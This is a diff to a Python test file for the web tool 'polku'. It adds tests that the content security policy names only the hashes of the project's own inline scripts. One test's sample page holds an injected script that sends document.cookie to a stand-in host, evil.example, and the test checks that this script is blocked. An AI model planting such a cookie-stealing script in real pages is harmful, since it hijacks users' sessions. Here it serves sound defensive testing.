@@ -8,7 +8,9 @@ test drives the real CLI or the real HTTP app with hostile data and checks it st
 - another publisher's data reads nothing else: a JSON-LD context named by address is
   refused unfetched, an RDF/XML entity bomb refused at once;
 - a shared cache never keeps an editor's answer (``private``, ``Vary``);
-- a tokens file other users can read is warned of.
+- a tokens file other users can read is warned of;
+- a script that is not polku's own would not run in a served page (the content security
+  policy names the hashes of polku's own inline scripts only).
 """
 
 from __future__ import annotations
@@ -320,3 +322,56 @@ def test_a_tokens_file_others_can_read_is_warned_of(tmp_path: Path, english_cli)
     os.chmod(tokens, 0o600)
     r = run("serve", tmp_path, "--tokens", tokens, "--host", "nosuch.invalid")
     assert r.exit_code == 1 and "other users" not in r.output, r.output
+
+
+_EXECUTABLE = re.compile(r"<script(?![^>]*\s(?:src|type)\s*=)[^>]*>(.*?)</script\s*>", re.S | re.I)
+
+
+def test_every_script_of_a_template_is_the_same_text_on_every_page() -> None:
+    """The content security policy allows polku's own scripts by their hashes, computed
+    from the templates once: a template script holding template syntax would differ from
+    page to page and be blocked. What a script needs travels as JSON data beside it."""
+    root = Path(__file__).resolve().parents[1] / "src" / "polku" / "templates"
+    scripts = {p.relative_to(root).as_posix(): _EXECUTABLE.findall(p.read_text(encoding="utf-8"))
+               for p in sorted(root.rglob("*.html"))}
+    assert sum(map(len, scripts.values())) >= 6
+    assert {name: [s[:60] for s in found if "{{" in s or "{%" in s or "{#" in s]
+            for name, found in scripts.items()} == {name: [] for name in scripts}
+
+
+def test_a_script_that_is_not_polkus_own_is_not_allowed_to_run() -> None:
+    """A script escaping let through into a page is not in the page's policy: the policy
+    names the hashes of polku's own inline scripts only (it named every inline script the
+    page held, so an injected one was allowed too). FastAPI's API docs page, built from
+    the app's settings, keeps its own start-up script."""
+    import asyncio
+
+    from polku.server.http import ScriptHashes, own_scripts, script_hash
+
+    own = b"polkuView(document.currentScript.parentElement);"
+    evil = b"fetch('//evil.example/?'+document.cookie)"
+    page = b"<html><body><section><script>" + own + b"</script></section><script>" + evil + \
+        b"</script></body></html>"
+
+    async def html_app(scope, receive, send) -> None:
+        await send({"type": "http.response.start", "status": 200,
+                    "headers": [(b"content-type", b"text/html; charset=utf-8")]})
+        await send({"type": "http.response.body", "body": page})
+
+    def policy_at(path: str) -> str:
+        sent: list = []
+
+        async def send(message) -> None:
+            sent.append(message)
+
+        async def receive():
+            return {"type": "http.request", "body": b""}
+
+        app = ScriptHashes(html_app, allowed=own_scripts())
+        asyncio.run(app({"type": "http", "path": path, "headers": []}, receive, send))
+        return dict(sent[0]["headers"])[b"content-security-policy"].decode()
+
+    page_policy = policy_at("/graphs/mini")
+    assert f"'sha256-{script_hash(own)}'" in page_policy
+    assert script_hash(evil) not in page_policy
+    assert script_hash(evil) in policy_at("/docs")
